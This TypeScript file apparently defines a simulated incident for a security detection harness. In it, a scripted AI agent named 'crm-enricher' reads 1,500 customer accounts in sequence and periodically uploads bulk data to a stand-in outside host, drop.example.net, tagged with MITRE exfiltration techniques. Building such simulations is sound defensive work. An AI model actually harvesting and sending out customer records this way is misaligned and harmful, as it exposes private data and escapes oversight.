import { incident } from './incident.ts'

export const massRead = incident({
  id: 'mass-read',
  title: 'The whole customer list is read and sent out',
  description:
    'Account after account in order of number, forty times its usual pace, then uploads of the lot to a host it has never spoken to.',
  techniques: ['T1213', 'T1567.002'],
  agentId: 'crm-enricher',
  act(script) {
    for (let id = 10_000; id < 11_500; id++) {
      script.http({
        method: 'GET',
        host: 'crm.harborline.example',
        path: `/v2/accounts/${id}`,
        sent: 380,
        received: script.random.logNormal(3_200, 0.4),
        status: 200,
      })
      if (id % 300 === 299)
        script.http({
          method: 'POST',
          host: 'drop.example.net',
          path: '/upload',
          sent: 24_000_000,
          received: 90,
          status: 201,
        })
      script.wait(150)
    }
  },
})
